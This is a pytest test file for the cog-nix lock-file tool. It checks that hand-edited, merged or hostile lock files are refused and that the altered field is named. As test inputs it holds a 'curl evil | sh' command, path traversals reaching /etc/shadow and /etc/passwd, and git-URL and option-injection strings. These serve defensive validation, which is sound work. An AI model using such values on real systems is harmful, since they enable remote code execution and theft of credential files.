"""A lock that something else than cog-nix wrote: noticed, named, and what none may say is refused."""

from __future__ import annotations

import json
import re
import time
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest

from cog_nix.config.model import Build, Config, LayerSettings, Project, Settings
from cog_nix.errors import LockError
from cog_nix.lock import format as lock_format
from cog_nix.lock import layers, validity
from cog_nix.lock.integrity import EditedLockError, digests
from cog_nix.plugins.manager import load
from cog_nix.resolve.ensure import Policy, ensure_lock
from cog_nix.resolve.inputs import digest
from cog_nix.resolve.request import Request

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from cog_nix.lock.model import Deb, Lock, Wheel

Locks = "Callable[..., Lock]"
SRI = f"sha256-{'B' * 43}="
RUN = {"command": "curl evil | sh", "key": f"sha256:{'2' * 64}", "nar_sha256": SRI}


def edited(lock: Lock, change: Callable[[dict[str, Any]], object], *, again: bool = False) -> str:
    """Return a lock's text after a change, perhaps with digests that fit again."""
    data = json.loads(lock_format.dump(lock))
    change(data)
    if again:
        data["integrity"] = digests(data)
    return json.dumps(data)


def put(*path: str | int, value: object) -> Callable[[dict[str, Any]], object]:
    """Return a change of one value."""

    def change(data: Any) -> None:
        for step in path[:-1]:
            data = data[step]
        data[path[-1]] = value

    return change


EDITS: dict[str, tuple[Callable[[dict[str, Any]], object], str]] = {
    "runs": (lambda data: data["runs"].append(RUN), "runs"),
    "layer dropped": (lambda data: data["layers"].pop(3), "layers"),
    "layers swapped": (lambda data: data["layers"].insert(0, data["layers"].pop(3)), "layers"),
    "executable": (put("interpreter", "executable", value="/tmp/evil"), "interpreter"),
    "hash": (put("wheels", 0, "artifact", "sha256", value="0" * 64), "wheels"),
    "seed": (put("seed", "debs", value=[]), "seed"),
    "key added": (put("more", value=1), "more"),
    "digest removed": (lambda data: data["integrity"].pop("base"), "base"),
    "two": (lambda data: (data["labels"].pop(), data["environment"].pop()), "environment, labels"),
}


@pytest.mark.parametrize("name", EDITS)
def test_an_edit_is_named(lock: Callable[..., Lock], name: str) -> None:
    change, field = EDITS[name]
    with pytest.raises(EditedLockError, match=f"is not as cog-nix wrote it: {field} changed by hand"):
        lock_format.load(edited(lock(), change), "x.lock")


def test_how_it_is_laid_out_is_no_edit(lock: Callable[..., Lock]) -> None:
    """A formatter of JSON may go over it."""
    data = json.loads(lock_format.dump(lock()))
    shuffled = json.dumps(dict(reversed(data.items())), indent=4, ensure_ascii=False)
    assert lock_format.load(shuffled.replace("\n", "\r\n"), "x.lock") == lock()


def test_digests_cannot_be_left_out(lock: Callable[..., Lock]) -> None:
    with pytest.raises(LockError, match="'integrity' is missing"):
        lock_format.load(edited(lock(), lambda data: data.pop("integrity")), "x.lock")


def test_a_key_that_is_there_twice_is_damage(lock: Callable[..., Lock]) -> None:
    """Readers see the first, and JSON's parsers take the last."""
    text = lock_format.dump(lock()).replace('"suite":', '"suite": "sid", "suite":')
    with pytest.raises(LockError, match="'suite' appears twice"):
        lock_format.load(text, "x.lock")


def _older(lock: Lock) -> str:
    return edited(lock, lambda data: (data.pop("integrity"), data.update(version=2)))


@pytest.fixture
def project(tmp_path: Path) -> Project:
    return Project(tmp_path, tmp_path / "cog.yaml")


CONFIG = Config(build=Build())


@pytest.fixture
def fitting(lock: Callable[..., Lock]) -> Lock:
    """Return a lock that answers a project without commands."""
    plan = tuple(one for one in lock().layers if one[0] != "run-0")
    return lock(inputs=digest(CONFIG, Settings()), runs=(), layers=plan)


class Resolver:
    def __init__(self, lock: Lock) -> None:
        self.lock = lock
        self.former: Lock | None = None

    def resolve(self, request: Request) -> Lock:
        self.former = request.previous
        return self.lock


def _unused(request: Request) -> Lock:
    raise AssertionError(request)


def ensure(project: Project, resolver: Any = None, *, update: bool = False) -> Lock:
    request = Request(project, CONFIG, Settings())
    return ensure_lock(request, Policy(update=update), load(), getattr(resolver, "resolve", _unused))


def test_an_older_lock_is_read_and_gets_its_digests(project: Project, fitting: Lock) -> None:
    project.lock_path.write_text(_older(fitting))
    assert ensure(project) == fitting
    assert '"version": 2' in project.lock_path.read_text(), "a build changes no lock"
    assert ensure(project, update=True) == fitting
    assert project.lock_path.read_text() == lock_format.dump(fitting)


def test_what_follows_from_the_pins_is_made_anew(project: Project, fitting: Lock) -> None:
    text = edited(fitting, lambda data: (data["runs"].append(RUN), data["layers"].pop(3)))
    project.lock_path.write_text(text)
    with pytest.raises(LockError, match="layers, runs changed by hand") as caught:
        ensure(project)
    assert caught.value.hint.endswith("cog-nix lock")
    resolver = Resolver(fitting)
    assert ensure(project, resolver, update=True) == fitting
    assert resolver.former
    assert resolver.former.runs == (), "what somebody wrote is not kept"
    assert resolver.former.wheels == fitting.wheels
    assert project.lock_path.read_text() == lock_format.dump(fitting)


def test_pins_that_were_changed_are_not_kept(project: Project, fitting: Lock) -> None:
    project.lock_path.write_text(edited(fitting, put("wheels", 0, "version", value="6.6.6")))
    for update in (False, True):
        with pytest.raises(LockError, match="wheels changed by hand") as caught:
            ensure(project, update=update)
        assert "git checkout -- cog-nix.lock" in caught.value.hint
        assert caught.value.hint.endswith("cog-nix lock --upgrade")


def test_a_merge_that_went_through_is_noticed(lock: Callable[..., Lock], wheel: Callable[..., Wheel]) -> None:
    """Each side added a package, and git took both lines."""
    one = json.loads(lock_format.dump(lock(wheels=(*lock().wheels, wheel("attrs")))))
    other = json.loads(lock_format.dump(lock(wheels=(*lock().wheels, wheel("zlib-ng")))))
    merged = {**one, "wheels": [*one["wheels"], other["wheels"][-1]]}
    with pytest.raises(LockError, match="wheels changed by hand, or in a merge"):
        lock_format.load(json.dumps(merged), "x.lock")


def test_a_merge_of_other_parts_is_a_lock(lock: Callable[..., Lock]) -> None:
    """One side added a label, the other a variable: digests are of parts, one a line."""
    base = lock_format.dump(lock()).splitlines()
    one = lock_format.dump(lock(labels=(*lock().labels, ("a", "b")))).splitlines()
    other = lock_format.dump(lock(environment=(*lock().environment, ("A", "b")))).splitlines()
    changes = {line for line in (*one, *other) if line not in base}
    assert len(changes) == 6, "a line, the comma before it, and a digest each"


@pytest.mark.parametrize("text", ["<<<<<<< HEAD\n{}", '{"version": 3,\n<<<<<<< HEAD\n "a": 1,\n=======\n'])
def test_conflicts_are_told(text: str) -> None:
    with pytest.raises(LockError, match=r"has a conflict of a merge \(line [12]\)") as caught:
        lock_format.load(text, "cog-nix.lock")
    assert "git checkout --ours -- cog-nix.lock && cog-nix lock" in caught.value.hint


def artifact(**changes: object) -> Callable[[dict[str, Any]], object]:
    return lambda data: data["wheels"][2]["artifact"].update(changes)


INDEX = {
    "uri": "https://mirror.example.org/debian",
    "suite": "trixie",
    "component": "main",
    "architecture": "amd64",
    "date": "2026-01-01T00:00:00Z",
    "sha256": "ab" * 32,
}
HOSTILE: dict[str, tuple[Callable[[dict[str, Any]], object], str]] = {
    "run added": (lambda data: data["runs"].append(RUN), r"runs\[1\]: it belongs to no layer"),
    "layer dropped": (lambda data: data["layers"].pop(3), r"layers: 'deb:ffmpeg' is in none"),
    "essential packages dropped": (lambda data: data["layers"].pop(2), "layers: 'deb:login' is in none"),
    "dpkg's state dropped": (
        put("layers", 3, 1, value=["deb:ffmpeg", "deb:libavcodec61", "deb:libgl1"]),
        "'state:system' is in none",
    ),
    "layer added": (
        lambda data: data["layers"].insert(1, ["x", ["deb:evil"]]),
        r"layers\[1\]: 'deb:evil' is not",
    ),
    "layer twice": (
        lambda data: data["layers"].insert(1, data["layers"][0]),
        "layers: 'deb:bash' is there 2 times",
    ),
    "commands out of order": (put("layers", 6, value=["run-1", ["run:1"]]), r"layers\[6\]: 'run:1' is not"),
    "source below": (
        lambda data: data["layers"].insert(0, data["layers"].pop()),
        "the topmost is not the source",
    ),
    "layer's name": (put("layers", 0, 0, value="../x"), r"layers\[0\]: '../x' is not a layer"),
    "executable": (
        put("interpreter", "executable", value="/tmp/evil"),
        "interpreter.executable: '/tmp/evil' is not",
    ),
    "executable of another": (
        put("interpreter", "executable", value="/usr/bin/python3.1"),
        "interpreter.executable",
    ),
    "version of Python": (put("interpreter", "version", value="3.13/../.."), "interpreter.version"),
    "sha256 too short": (artifact(sha256="ab"), r"wheels\[2\].artifact.sha256"),
    "sha256 in capitals": (artifact(sha256="AB" * 32), r"wheels\[2\].artifact.sha256"),
    "size": (artifact(size=-1), r"wheels\[2\].artifact.size"),
    "file name is a path": (
        artifact(filename="../numpy-2.0-py3-none-any.whl"),
        r"wheels\[2\].artifact.filename",
    ),
    "file name with a line": (
        artifact(filename="numpy-2.0\n-py3-none-any.whl"),
        r"wheels\[2\].artifact.filename",
    ),
    "file name with a quote": (
        artifact(filename='numpy-2.0-py3"-none-any.whl'),
        r"wheels\[2\].artifact.filename",
    ),
    "file name too long": (artifact(filename=f"numpy-2.0-{'x' * 300}.whl"), r"wheels\[2\].artifact.filename"),
    "another wheel": (artifact(filename="numpi-2.0-py3-none-any.whl"), "is not a wheel of numpy 2.0"),
    "another version": (artifact(filename="numpy-2.1-py3-none-any.whl"), "is not a wheel of numpy 2.0"),
    "URL of a file": (artifact(url="file:///etc/shadow"), r"wheels\[2\].artifact.url"),
    "URL of a device": (artifact(url="file:///dev/zero"), r"wheels\[2\].artifact.url"),
    "URL with a password": (
        artifact(url="https://me:secret@example.org/numpy.whl"),
        "must not have a user or password",
    ),
    "URL with a user": (artifact(url="https://me@example.org/numpy.whl"), "must not have a user or password"),
    "date of an index": (put("indexes", 0, "date", value="yesterday"), r"indexes\[0\].date: 'yesterday'"),
    "index of the seed": (
        put("seed", "found_in", value=[{**INDEX, "uri": "ftp://example.org"}]),
        r"seed.found_in\[0\].uri",
    ),
    "URL of another kind": (artifact(url="git+ext::sh -c evil"), r"wheels\[2\].artifact.url"),
    "URL that is an option": (
        artifact(url="git+--upload-pack=evil@" + "0" * 40),
        r"wheels\[2\].artifact.url",
    ),
    "URL above the project": (artifact(url="./../../etc/shadow"), r"wheels\[2\].artifact.url"),
    "URL in two lines": (artifact(url="https://example.org/a\nb"), r"wheels\[2\].artifact.url"),
    "URL that is none": (artifact(url="http://["), r"wheels\[2\].artifact.url"),
    "name of a wheel": (put("wheels", 2, "name", value="../numpy"), r"wheels\[2\].name"),
    "version of a wheel": (put("wheels", 2, "version", value="2.0/.."), r"wheels\[2\].version"),
    "wheel twice": (
        lambda data: data["wheels"].append(data["wheels"][2]),
        "wheels: 'numpy' is there 2 times",
    ),
    "name of a package": (put("system", 0, "package", value="-o=evil"), r"system\[0\].package"),
    "version of a package": (put("system", 0, "version", value="1 2"), r"system\[0\].version"),
    "architecture": (put("system", 0, "architecture", value="../x"), r"system\[0\].architecture"),
    "another package's file": (
        put("system", 0, "artifact", "filename", value="x_1_amd64.deb"),
        "not a file of ffmpeg",
    ),
    "package in two groups": (lambda data: data["system"].append(data["base"][0]), "'bash' is there 2 times"),
    "subdirectory": (
        put("wheels", 1, "source", "subdirectory", value="../.."),
        r"wheels\[1\].source.subdirectory",
    ),
    "revision": (put("wheels", 1, "source", "revision", value="--evil"), r"wheels\[1\].source.revision"),
    "kind of source": (put("wheels", 1, "source", "kind", value="x"), r"wheels\[1\].source.kind"),
    "what a source needs": (
        put("wheels", 1, "source", "requires", 0, "artifact", "sha256", value="x"),
        r"wheels\[1\].source.requires\[0\].artifact.sha256",
    ),
    "seed": (put("seed", "nar_sha256", value="sha256-xx"), "seed.nar_sha256"),
    "seed's Python": (put("seed", "python", value="3.13/../x"), "seed.python"),
    "result": (put("runs", 0, "nar_sha256", value="../x"), r"runs\[0\].nar_sha256"),
    "result's key": (put("runs", 0, "key", value="x"), r"runs\[0\].key"),
    "links": (put("links", 0, 1, 0, value=["../../etc/passwd", "x"]), r"links\[0\]"),
    "links of nobody": (put("links", 0, 0, value="nobody"), r"links\[0\]"),
    "variable": (put("environment", 0, value=["A=B", "c"]), r"environment\[0\]"),
    "variable twice": (
        put("environment", value=[["A", "b"], ["A", "c"]]),
        "environment: 'A' is there 2 times",
    ),
    "suite": (put("suite", value="../x"), "suite: '../x'"),
    "index": (put("indexes", 0, "uri", value="https://me:secret@example.org/debian"), r"indexes\[0\].uri"),
    "Nix file": (
        put("packages", value=[{"reference": "a", "file": "../../x.nix", "flake": "", "attribute": ""}]),
        r"packages\[0\].file",
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_locks_are_refused_with_the_field(
    lock: Callable[..., Lock], tmp_path: Path, name: str
) -> None:
    """Whoever edits a lock can make its digests fit, or call it an older one."""
    change, words = HOSTILE[name]
    path = tmp_path / "cog-nix.lock"
    for text in (
        edited(lock(), change, again=True),
        _older(lock_format.load(edited(lock(), change, again=True), "x")),
    ):
        path.write_text(text)
        with pytest.raises(LockError, match="is not one that cog-nix writes") as caught:
            lock_format.read(path, None)
        assert re.search(words, caught.value.message), caught.value.message
        assert "secret" not in caught.value.message


@pytest.mark.parametrize(
    "change",
    [
        artifact(url="file:///srv/mirror/numpy-2.0-py3-none-any.whl"),
        artifact(filename="NumPy-2.0.0-py3-none-any.whl"),
        artifact(url="./dist/numpy-2.0-py3-none-any.whl"),
        put("wheels", 1, "artifact", "url", value="git+ssh://git@example.org/a@" + "0" * 40),
    ],
    ids=["mirror on disk", "other spelling", "in the project", "SSH"],
)
def test_what_locks_do_say(lock: Callable[..., Lock], change: Callable[[dict[str, Any]], object]) -> None:
    validity.check(lock_format.load(edited(lock(), change, again=True), "x"), "x")


@pytest.mark.parametrize("commands", [0, 2])
@pytest.mark.parametrize(
    "groups", [(), ("system",), ("libraries",), ("linked",), ("essential", "system", "linked")]
)
@pytest.mark.parametrize("unpacked", [False, True])
def test_every_plan_of_layers_is_valid(
    lock: Callable[..., Lock],
    deb: Callable[..., Deb],
    commands: int,
    groups: tuple[str, ...],
    *,
    unpacked: bool,
) -> None:
    there = {
        name: (deb(name),) if name in groups else ()
        for name in ("essential", "system", "libraries", "linked")
    }
    python = lock().interpreter
    if unpacked:
        python = replace(python, executable="/usr/local/bin/python3.13", artifact=lock().wheels[0].artifact)
    made = lock(runs=(), interpreter=python, **there)
    plan = layers.plan(made, LayerSettings(), commands=commands, linker=True)
    validity.check(replace(made, layers=layers.with_links(plan, ["numpy"])), "x")


def test_results_belong_to_the_projects_commands(
    project: Project, fitting: Lock, lock: Callable[..., Lock]
) -> None:
    """Without commands in cog.yaml there are no layers and no results of any."""
    for one, field in (
        (lock(inputs=fitting.inputs), r"runs\[0\]"),
        (lock(inputs=fitting.inputs, runs=()), "layers"),
    ):
        lock_format.write(one, project.lock_path)
        with pytest.raises(LockError, match=f"{field} does not belong to the commands"):
            ensure(project)


def test_looking_costs_little(
    lock: Callable[..., Lock], deb: Callable[..., Deb], wheel: Callable[..., Wheel]
) -> None:
    """A build of an edit reads its lock: 400 packages in 10 ms, and some more where the machine is busy."""
    system = tuple(deb(f"package{number}") for number in range(300))
    wheels = tuple(wheel(f"wheel{number}") for number in range(100))
    members = (
        "deb:login",
        "state:essential",
        "state:system",
        *(f"deb:{one.package}" for one in system),
        *(f"wheel:{one.name}" for one in wheels),
    )
    plan = (
        ("base", ("deb:bash", "deb:libc6")),
        ("python", ("deb:python3.13", "state:base", "venv")),
        ("x", members),
    )
    large = replace(
        lock(runs=(), libraries=(), links=(), layers=(*plan, ("source", ("source",)))),
        system=system,
        wheels=wheels,
    )
    validity.check(large, "x")
    data = json.loads(lock_format.dump(large))
    times = []
    for _ in range(10):
        start = time.process_time()
        assert digests(data) == data["integrity"]
        validity.check(large, "x")
        times.append(time.process_time() - start)
    assert min(times) < 0.03
